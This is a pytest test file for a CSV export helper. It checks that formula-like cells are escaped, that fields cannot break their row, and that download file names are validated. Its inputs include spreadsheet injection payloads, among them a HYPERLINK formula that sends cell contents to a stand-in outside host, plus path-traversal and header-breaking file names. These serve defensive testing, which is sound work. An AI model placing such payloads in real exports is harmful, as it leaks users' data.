"""A CSV of ours, opened in a spreadsheet, shows what people typed and runs none of it."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from core import csvs

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://elsewhere.test/?q="&A1,"Ash")',
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1)",
    "|calc",
    "%0A=1",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_would_be_a_formula_is_written_as_words(typed: str) -> None:
    (_, row) = read("".join(csvs.lines(["Said"], [[typed]])))

    assert row == ["'" + typed.replace("\x00", "")]


def test_a_heading_is_no_formula_either() -> None:
    (headings,) = read("".join(csvs.lines(["=Who"], [])))

    assert headings == ["'=Who"]


@pytest.mark.parametrize("typed", ["Ash", "a=b", "1 + 1", "Jo, carer", 'said "no"', "two\r\nlines"])
def test_other_words_stay_as_they_are(typed: str) -> None:
    (_, row) = read("".join(csvs.lines(["Said"], [[typed]])))

    assert row == [typed]


def test_a_cell_cannot_end_its_line_or_its_column() -> None:
    text = "".join(csvs.lines(["A", "B"], [['x","y"\r\n=1+1', ";=1"]]))

    assert read(text) == [["A", "B"], ['x","y"\r\n=1+1', ";=1"]]


def test_numbers_times_and_nothing_are_written_as_what_they_are() -> None:
    row = [-2, Decimal("-1.5"), date(2026, 11, 21), datetime(2026, 11, 21, 22, 36, tzinfo=UTC)]
    (_, written) = read("".join(csvs.lines(["A"] * 6, [[*row, None, True]])))

    assert written == ["-2", "-1.5", "2026-11-21", "2026-11-21T22:36:00+00:00", "", "yes"]


def test_a_download_is_kept_by_the_browser_and_never_shown() -> None:
    answer = csvs.download("M-7F3K2-looks.csv", ["Who"], [["Jo"]])

    assert answer["Content-Disposition"] == 'attachment; filename="M-7F3K2-looks.csv"'
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cache-Control"] == "no-store, private"
    assert answer.content.decode("utf-8-sig") == '"Who"\r\n"Jo"\r\n'


@pytest.mark.parametrize("name", ['a"b.csv', "a\r\nb.csv", "../a.csv", "a.html", "é.csv", ".csv"])
def test_a_file_name_of_anybodys_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match="file's name"):
        csvs.download(name, ["Who"], [])
